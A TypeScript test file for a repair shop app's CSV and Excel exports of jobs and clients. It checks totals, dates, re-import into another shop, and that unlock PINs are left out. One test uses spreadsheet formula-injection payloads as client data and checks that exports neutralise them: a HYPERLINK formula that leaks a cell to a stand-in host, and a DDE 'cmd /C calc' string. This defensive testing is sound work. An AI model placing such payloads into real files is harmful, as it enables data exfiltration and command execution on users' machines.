import ExcelJS from 'exceljs';
import type { ImportPreviewResponse } from '@repair-shop/contracts';
import { csvFile, importFile, previewImport } from './support/import-files';
import { keptAndRecomputed } from './support/kept-aggregates';
import {
  bearer,
  createJob,
  createShop,
  expectError,
  expectStatus,
  startTestApp,
  type Shop,
  type TestApp,
} from './support/test-app';

const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** Reads a whole response body as bytes (supertest leaves binary answers unparsed otherwise). */
const binary = (
  response: { on: (event: string, listener: (chunk?: Buffer) => void) => void },
  callback: (error: Error | null, body: Buffer) => void,
): void => {
  const chunks: Buffer[] = [];
  response.on('data', (chunk) => chunks.push(chunk as Buffer));
  response.on('end', () => callback(null, Buffer.concat(chunks)));
};

/** The first sheet's rows, as exceljs reads the workbook: each row's cell values from the first column. */
async function sheetRows(file: Buffer): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(file as unknown as ArrayBuffer);
  const rows: unknown[][] = [];
  workbook.worksheets[0]?.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

describe('exporting jobs and clients as CSV and Excel', () => {
  let t: TestApp;
  let shop: Shop;

  beforeAll(async () => {
    t = await startTestApp({}, '2026-01-15T10:00:00.000Z');
    shop = await createShop(t);
    const job = await createJob(t, shop.token, shop.worker.id, {
      clientName: '=Qëndrim Çeku',
      clientPhone: '049 111 222',
      estimatedPrice: 1250.5,
      deviceLock: { kind: 'pin', value: '481516' },
    });
    expectStatus(
      await t
        .http()
        .post(`/api/jobs/${job.id}/payments`)
        .set(bearer(shop.token))
        .send({ amount: 100, method: 'cash', kind: 'payment' }),
      201,
    );
    t.clock.advance(3_600_000);
    expectStatus(
      await t.http().put(`/api/jobs/${job.id}/status`).set(bearer(shop.token)).send({ status: 'completed' }),
      200,
    );
    await createJob(t, shop.token, shop.worker.id, {
      clientName: 'Ëndrita Dërmaku',
      clientPhone: '044 555 666',
      deviceImei: '490154203237518',
    });
    t.clock.advance(60_000);
    const clients = csvFile([
      ['Emri', 'Telefoni', 'Shënimi'],
      ['Dafina Gashi', '049 800 100', 'Thirreni pas orës 17'],
    ]);
    expectStatus(await importFile(t, shop.token, clients, 'clients', { columns: { name: 0, phone: 1, note: 2 } }), 201);
  });
  afterAll(async () => {
    await t.close();
  });

  const download = (path: string, token = shop.token) =>
    t.http().get(path).set(bearer(token)).buffer(true).parse(binary);

  it("writes the jobs as an Excel workbook with the CSV's columns, numbers and dates in typed cells, and no unlock code", async () => {
    const response = await download('/api/export/jobs.xlsx?from=2026-01-01&to=2026-01-31');
    expectStatus(response, 200);
    expect(response.headers['content-type']).toBe(XLSX_TYPE);
    expect(response.headers['content-disposition']).toBe('attachment; filename="punet-2026-01-01-2026-01-31.xlsx"');
    const rows = await sheetRows(response.body as Buffer);
    const csv = (await t.http().get('/api/export/jobs.csv?from=2026-01-01&to=2026-01-31').set(bearer(shop.token))).text;
    expect(rows[0]).toEqual(csv.replace('\uFEFF', '').split('\n')[0]?.split(';'));
    expect(rows).toHaveLength(3);
    const [
      ticket,
      received,
      status,
      client,
      phone,
      device,
      imei,
      problem,
      worker,
      priority,
      labour,
      parts,
      total,
      paid,
      balance,
      completed,
      category,
    ] = rows[1]!;
    expect([status, client, phone, device, imei, problem, worker, priority]).toEqual([
      'Përfunduar',
      '=Qëndrim Çeku',
      '049 111 222',
      'Samsung Galaxy S21',
      '356789012345672',
      'Ekrani i thyer, duhet ndërruar.',
      'Driton Gashi',
      'Normale',
    ]);
    expect(ticket).toMatch(/^[0-9A-F]{6}$/);
    expect([labour, parts, total, paid, balance]).toEqual([1250.5, 0, 1250.5, 100, 1150.5]);
    // 11:00 and 12:00 in the shop (UTC+1), as Excel shows them.
    expect([received, completed]).toEqual([new Date('2026-01-15T11:00:00Z'), new Date('2026-01-15T12:00:00Z')]);
    expect(category).toBe('Ekran');
    expect(rows[2]?.[15]).toBeUndefined();
    expect(JSON.stringify(rows)).not.toContain('481516');
  });

  it('writes every client of the shop, imported ones with their note, as CSV and Excel', async () => {
    const csv = await t.http().get('/api/export/clients.csv').set(bearer(shop.token));
    expectStatus(csv, 200);
    expect(csv.headers['content-disposition']).toBe('attachment; filename="klientet-2026-01-15.csv"');
    const [header, ...lines] = csv.text.split('\n');
    expect(header).toBe('\uFEFFKlienti;Telefoni;Punë;Shpenzuar;Puna e fundit;Shënimi');
    // Newest first: the latest job's client, the other, then the client imported after them; a formula-like name kept as text.
    expect(lines).toEqual([
      'Dafina Gashi;049 800 100;0;0,00;;Thirreni pas orës 17',
      'Ëndrita Dërmaku;044 555 666;1;0,00;15.01.2026 12:00;',
      "'=Qëndrim Çeku;049 111 222;1;1250,50;15.01.2026 11:00;",
      '',
    ]);
    const xlsx = await download('/api/export/clients.xlsx');
    expectStatus(xlsx, 200);
    const rows = await sheetRows(xlsx.body as Buffer);
    expect(rows[0]).toEqual(['Klienti', 'Telefoni', 'Punë', 'Shpenzuar', 'Puna e fundit', 'Shënimi']);
    expect(rows.slice(1)).toEqual(
      expect.arrayContaining([
        ['=Qëndrim Çeku', '049 111 222', 1, 1250.5, new Date('2026-01-15T11:00:00Z')],
        ['Dafina Gashi', '049 800 100', 0, 0, undefined, 'Thirreni pas orës 17'],
      ]),
    );
    // Another shop exports its own clients only.
    const other = await createShop(t);
    expect((await t.http().get('/api/export/clients.csv').set(bearer(other.token))).text).toBe(
      '\uFEFFKlienti;Telefoni;Punë;Shpenzuar;Puna e fundit;Shënimi\n',
    );
  });

  it('keeps a formula out of the CSV without an apostrophe on phone numbers and numbers; the workbook holds text cells as typed', async () => {
    const other = await createShop(t);
    const hyperlink = '=HYPERLINK("https://example.com/?d="&A1;"Kliko")';
    await createJob(t, other.token, other.worker.id, {
      clientName: 'Arbër Hoxha',
      clientPhone: '+383 49 555 111',
      workDescription: '-12,50',
    });
    t.clock.advance(60_000);
    await createJob(t, other.token, other.worker.id, {
      clientName: hyperlink,
      clientPhone: '+383 44 222-333',
      workDescription: '@SUM(1+1)*cmd|" /C calc"!A0',
    });
    t.clock.advance(60_000);
    await createJob(t, other.token, other.worker.id, {
      clientName: '-Teuta',
      clientPhone: '049 700 800',
      workDescription: '+1 ditë',
    });

    const csv = (await t.http().get('/api/export/jobs.csv?from=2026-01-01&to=2026-01-31').set(bearer(other.token)))
      .text;
    const cells = (line: string | undefined) => (line ?? '').split(';').slice(3, 8);
    const [, arber, link, teuta] = csv.split('\n');
    // A phone number and a number as they are; anything else starting like a formula behind "'".
    expect(cells(arber)).toEqual(['Arbër Hoxha', '+383 49 555 111', 'Samsung Galaxy S21', '356789012345672', '-12,50']);
    expect(link).toContain(`"'=HYPERLINK(""https://example.com/?d=""&A1;""Kliko"")"`);
    expect(link).toContain(`;'+383 44 222-333;`);
    expect(link).toContain(`;"'@SUM(1+1)*cmd|"" /C calc""!A0";`);
    expect(cells(teuta)).toEqual(["'-Teuta", '049 700 800', 'Samsung Galaxy S21', '356789012345672', "'+1 ditë"]);

    const rows = await sheetRows(
      (await download('/api/export/jobs.xlsx?from=2026-01-01&to=2026-01-31', other.token)).body as Buffer,
    );
    // Text cells hold the text itself: never an apostrophe, never a formula.
    expect(rows.slice(1).map((row) => row.slice(3, 5))).toEqual([
      ['Arbër Hoxha', '+383 49 555 111'],
      [hyperlink, '+383 44 222-333'],
      ['-Teuta', '049 700 800'],
    ]);

    // The clients' file, which the shop opens to call them: the phone as it was written.
    const clients = (await t.http().get('/api/export/clients.csv').set(bearer(other.token))).text;
    expect(clients).toContain('\nArbër Hoxha;+383 49 555 111;1;');
    expect(clients).toContain(`\n"'=HYPERLINK(`);
    const clientRows = await sheetRows((await download('/api/export/clients.xlsx', other.token)).body as Buffer);
    expect(clientRows.map((row) => row[1])).toContain('+383 49 555 111');
  });

  it('refuses a reversed range of days for the workbook too', async () => {
    expectError(
      await t.http().get('/api/export/jobs.xlsx?from=2026-01-16&to=2026-01-15').set(bearer(shop.token)),
      400,
      'Data e fillimit duhet të jetë para datës së mbarimit.',
    );
  });

  it('takes an exported file into another shop as it is: jobs from the workbook, clients from the CSV', async () => {
    const other = await createShop(t);
    const jobsFile = (await download('/api/export/jobs.xlsx?from=2026-01-01&to=2026-01-31')).body as Buffer;
    const preview = (await previewImport(t, other.token, jobsFile, 'punet.xlsx')).body as ImportPreviewResponse;
    expect(preview.suggestedKind).toBe('jobs');
    const imported = await importFile(
      t,
      other.token,
      jobsFile,
      'jobs',
      { columns: preview.suggested.jobs, workerId: other.worker.id },
      'punet.xlsx',
    );
    expectStatus(imported, 201);
    expect(imported.body).toMatchObject({ imported: 2, skipped: 0 });
    const jobsOf = async (businessId: string) =>
      t.db.query(
        `SELECT client_name, client_phone, device_model, device_imei, work_description, status, priority, COALESCE(estimated_price, 0) + parts_sale AS total,
                date_trunc('minute', created_at) AS created_at, date_trunc('minute', last_completed_at) AS completed_at
           FROM jobs WHERE business_id = $1 ORDER BY created_at`,
        [businessId],
      );
    expect(await jobsOf(other.business.id)).toEqual(await jobsOf(shop.business.id));
    // The worker named in the file is not one of the other shop's: the chosen one took the rows.
    const { kept, recomputed } = await keptAndRecomputed(t.db, other.business.id);
    expect(kept).toEqual(recomputed);

    const clientsFile = Buffer.from(
      (await t.http().get('/api/export/clients.csv').set(bearer(shop.token))).text,
      'utf-8',
    );
    const clientsPreview = (await previewImport(t, other.token, clientsFile, 'klientet.csv'))
      .body as ImportPreviewResponse;
    expect(clientsPreview.suggested.clients).toEqual({ name: 0, phone: 1, note: 5 });
    const clients = await importFile(
      t,
      other.token,
      clientsFile,
      'clients',
      { columns: clientsPreview.suggested.clients },
      'klientet.csv',
    );
    // The two clients with jobs came with their jobs already.
    expect(clients.body).toMatchObject({ imported: 1, skipped: 2, rowCount: 3 });
    const listed = async (token: string) =>
      (
        (await t.http().get('/api/clients').set(bearer(token))).body as {
          name: string;
          phone: string;
          jobCount: number;
          note: string | null;
        }[]
      ).map(({ name, phone, jobCount, note }) => ({ name, phone, jobCount, note }));
    expect((await listed(other.token)).sort((a, b) => a.phone.localeCompare(b.phone))).toEqual(
      (await listed(shop.token)).sort((a, b) => a.phone.localeCompare(b.phone)),
    );
  });

  // Last: it moves the clock and adds a client to the shop the other tests read.
  it("exports a cancelled job's balance as the job's page shows it: what was paid, to be given back", async () => {
    t.clock.set('2026-02-10T10:00:00.000Z');
    const job = await createJob(t, shop.token, shop.worker.id, {
      clientName: 'Besa Hoxha',
      clientPhone: '045 999 888',
      estimatedPrice: 80,
    });
    expectStatus(
      await t
        .http()
        .post(`/api/jobs/${job.id}/payments`)
        .set(bearer(shop.token))
        .send({ amount: 30, method: 'cash', kind: 'deposit' }),
      201,
    );
    expectStatus(
      await t
        .http()
        .put(`/api/jobs/${job.id}/status`)
        .set(bearer(shop.token))
        .send({ status: 'cancelled', reason: 'Klienti ndryshoi mendje' }),
      200,
    );
    const page = await t.http().get(`/api/jobs/${job.id}`).set(bearer(shop.token));
    expectStatus(page, 200);

    const rows = await sheetRows(
      (await download('/api/export/jobs.xlsx?from=2026-02-01&to=2026-02-28')).body as Buffer,
    );
    expect(rows).toHaveLength(2);
    const [total, paid, balance] = rows[1]!.slice(12, 15);
    expect([total, paid, balance]).toEqual([80, 30, -30]);
    expect(Number((page.body as { money: { balance: number } }).money.balance)).toBe(balance);
  });
});
